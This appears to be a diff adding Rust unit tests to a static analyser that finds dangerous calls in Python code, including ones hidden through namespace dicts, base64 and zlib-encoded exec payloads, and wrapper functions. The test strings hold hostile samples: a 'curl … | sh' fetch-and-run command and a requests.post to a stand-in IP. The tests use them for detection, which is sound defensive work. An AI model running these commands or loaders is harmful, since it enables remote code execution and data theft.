@@ -139,3 +139,57 @@ fn chr_joins_count_as_encoding_and_modules_resolve_without_imports() {
     let g = analyse("def app():\n    requests.get('http://x')\n");
     assert!(call_names(&g).contains(&"requests.get"));
 }
+
+#[test]
+fn resolves_namespace_dicts() {
+    // Issue 11: `vars(__builtins__)['eval']`, `os.__dict__['system']`, `vars(os)['popen']`.
+    let f =
+        analyse("import os\nvars(__builtins__)['eval']('1')\nos.__dict__['system']('id')\nvars(os)['popen']('ls')\n");
+    let names = call_names(&f);
+    for want in ["eval", "os.system", "os.popen"] {
+        assert!(names.contains(&want), "{want} not in {names:?}");
+    }
+}
+
+#[test]
+fn follows_reassignments_through_decoders() {
+    // Issue 11: `x = b64decode(...); exec(x)` and `Z=b64(Z); Z=zlib(Z); exec(Z)`.
+    let inner = "import os\nos.system('curl http://198.51.100.7/x | sh')\n";
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
+    let f = analyse(&format!("import base64\nx = base64.b64decode('{b64}')\nexec(x)\n"));
+    assert!(
+        f.payloads.iter().any(|p| p.sink == Sink::Exec && p.code.is_some()),
+        "{:?}",
+        f.payloads
+    );
+    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut z, inner.as_bytes()).unwrap();
+    let blob = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
+    let f = analyse(&format!(
+        "import base64, zlib\nZ = '{blob}'\nZ = base64.b64decode(Z)\nZ = zlib.decompress(Z)\nexec(Z)\n"
+    ));
+    let p = f.payloads.iter().find(|p| p.sink == Sink::Exec).expect("exec payload");
+    assert_eq!(p.steps, vec!["base64", "zlib"]);
+    assert!(call_names(p.code.as_ref().unwrap()).contains(&"os.system"));
+}
+
+#[test]
+fn wrapper_functions_are_sinks() {
+    // Issue 11: one level of local wrapper functions.
+    let f = analyse(
+        "import subprocess, requests\ndef run(c):\n    return subprocess.Popen(c, shell=True)\n\
+         def send(url, data):\n    requests.post(url, data=data)\nrun('curl http://198.51.100.7/x | sh')\nsend('http://198.51.100.7/c', D)\n",
+    );
+    let run = f.calls.iter().find(|c| c.line == 6).expect("call on line 6");
+    assert_eq!(run.name, "subprocess.Popen");
+    assert!(run.arg_strs.iter().any(|a| a.contains("| sh")), "{run:?}");
+    assert!(f.calls.iter().any(|c| c.line == 7 && c.name == "requests.post"));
+    // A function that only uses its parameter for something else is no wrapper.
+    let f = analyse("import subprocess\ndef show(c):\n    print(c)\n    subprocess.run(['ls'])\nshow('x')\n");
+    assert!(
+        !f.calls.iter().any(|c| c.line == 5 && c.name == "subprocess.run"),
+        "{:?}",
+        call_names(&f)
+    );
+}
